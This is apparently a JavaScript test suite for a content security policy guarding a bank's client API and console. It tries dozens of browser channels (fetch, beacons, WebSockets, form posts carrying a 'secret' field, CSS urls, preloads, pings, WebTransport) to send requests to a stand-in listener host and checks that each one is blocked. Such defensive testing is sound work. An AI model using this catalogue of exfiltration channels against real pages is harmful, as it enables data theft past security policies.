// Ways out: to a place that the manifest does not declare, to the bank's API, to the console.
const CSS_WAYS = {
  css_background: (address) => `body { background-image: url(${address}) }`,
  css_import: (address) => `@import url(${address});`,
  css_font: (address) => `@font-face { font-family: x; src: url(${address}) } h1 { font-family: x }`,
};
const ELEMENTS = {
  image: ["img", "src"],
  stylesheet: ["link", "href", { rel: "stylesheet" }],
  preload: ["link", "href", { rel: "preload", as: "image" }],
  prefetch: ["link", "href", { rel: "prefetch" }],
  module_preload: ["link", "href", { rel: "modulepreload" }],
  web_manifest: ["link", "href", { rel: "manifest" }],
  script: ["script", "src"],
  frame: ["iframe", "src"],
  object: ["object", "data"],
  embed: ["embed", "src"],
  video: ["video", "src"],
  audio: ["audio", "src"],
  poster: ["video", "poster"],
  image_button: ["input", "src", { type: "image" }],
};

const WAYS = {
  fetch: (address) => fetch(address).then(() => "answered"),
  fetch_no_cors: (address) => fetch(address, { mode: "no-cors", credentials: "include" }).then(() => "answered"),
  fetch_keepalive: (address) => fetch(address, { method: "POST", body: "x", keepalive: true }).then(() => "answered"),
  fetch_later: (address) => fetchLater(address, { activateAfter: 0 }),
  xhr: (address) =>
    new Promise((resolve, reject) => {
      const request = new XMLHttpRequest();
      request.onload = resolve;
      request.onerror = () => reject(new Error("onerror"));
      request.open("POST", address);
      request.send("x");
    }),
  web_socket: (address) => opened(new WebSocket(address.replace("http", "ws"))),
  event_source: (address) => opened(new EventSource(address, { withCredentials: true })),
  beacon: (address) => void navigator.sendBeacon(address, "x"),
  import: (address) => import(address),
  import_shared: (address) => make("script", { type: "module", src: address }),
  form_get: (address) => submit(address, "get"),
  form_post: (address) => submit(address, "post"),
  svg_image: (address) => void svg("image", address),
  svg_use: (address) => void svg("use", `${address}#x`),
  speculation: (address) => {
    const rules = make("script", { type: "speculationrules" });
    rules.textContent = JSON.stringify({ prefetch: [{ source: "list", urls: [address] }] });
  },
  ...Object.fromEntries(
    Object.entries(CSS_WAYS).map(([name, text]) => [name, (address) => void (make("style", {}).textContent = text(address))]),
  ),
  ...Object.fromEntries(
    Object.entries(ELEMENTS).map(([name, [tag, attribute, more = {}]]) => [
      name,
      (address) => void make(tag, { ...more, [attribute]: address }),
    ]),
  ),
};

function opened(channel) {
  return new Promise((resolve, reject) => {
    channel.onopen = resolve;
    channel.onerror = () => reject(new Error("onerror"));
  });
}

function submit(address, method) {
  make("iframe", { name: "sink", hidden: "" });
  const form = make("form", { action: address, method, target: "sink" });
  make("input", { name: "secret", value: "x" }, form);
  form.submit();
}

function svg(tag, address) {
  const names = "http://www.w3.org/2000/svg";
  const drawing = document.body.appendChild(document.createElementNS(names, "svg"));
  drawing.appendChild(document.createElementNS(names, tag)).setAttribute("href", address);
}

/** The policy names no address for these. */
const NAMELESS = new Set(["frame", "object", "embed", "speculation"]);
/** Nobody says anything of these; what arrived the listener knows. */
const SILENT = new Set(["svg_use", "web_manifest"]);

/** The policy must have said no: that nothing arrived is the test's own to see. */
async function sent(way, address, marker) {
  const from = blocked.length;
  const wanted = NAMELESS.has(way) ? null : marker;
  let answer;
  try {
    answer = await Promise.race([WAYS[way](address), pause(PATIENCE_MS)]);
  } catch (problem) {
    await untilBlocked(from, wanted, 100);
    throw problem;
  }
  if (answer === undefined || way === "import_shared" || way === "fetch_later") await untilBlocked(from, wanted);
  if (SILENT.has(way)) refuse("nothing said");
  return answer ?? "nobody said no";
}

for (const way of Object.keys(WAYS)) {
  if (TARGETS.only && !TARGETS.only.includes(way)) continue;
  attempt(`away_${way}`, () => sent(way, `${TARGETS.listener}/hostile-${way}`, `hostile-${way}`));
}
for (const [host, path] of [["shell", "/client/v1/demo/codes"], ["console", "/console/api/v1/audit"]]) {
  for (const way of ["fetch", "fetch_no_cors", "xhr", "web_socket", "event_source", "beacon", "image", "script", "form_post", "frame"]) {
    attempt(`${host}_${way}`, () => sent(way, `${TARGETS[host]}${path}?hostile-${way}`, path));
  }
}
attempt("away_ping", async () => {
  const link = make("a", { href: "#x", ping: `${TARGETS.listener}/hostile-ping` });
  const from = blocked.length;
  link.click();
  await untilBlocked(from, "hostile-ping");
});
attempt("away_web_transport", async () => {
  const transport = new WebTransport(`${TARGETS.listener.replace("http:", "https:")}/hostile-transport`);
  await transport.ready;
});
attempt("away_background_fetch", async () => {
  const registration = await navigator.serviceWorker.ready;
  return registration.backgroundFetch.fetch("x", `${TARGETS.listener}/hostile-background`);
});
attempt("away_push", async () => {
  const registration = await navigator.serviceWorker.ready;
  return registration.pushManager.subscribe({ userVisibleOnly: true });
});
attempt("away_preconnect", async () => {
  make("link", { rel: "preconnect", href: `${TARGETS.listener}/hostile-preconnect` });
  await pause(300);
  refuse("nothing said"); // whether anything was connected the listener knows
});
attempt("own_api_path", async () => {
  const answer = await fetch("/client/v1/demo/codes?hostile-own");
  return answer.ok || refuse(`${answer.status}`);
});
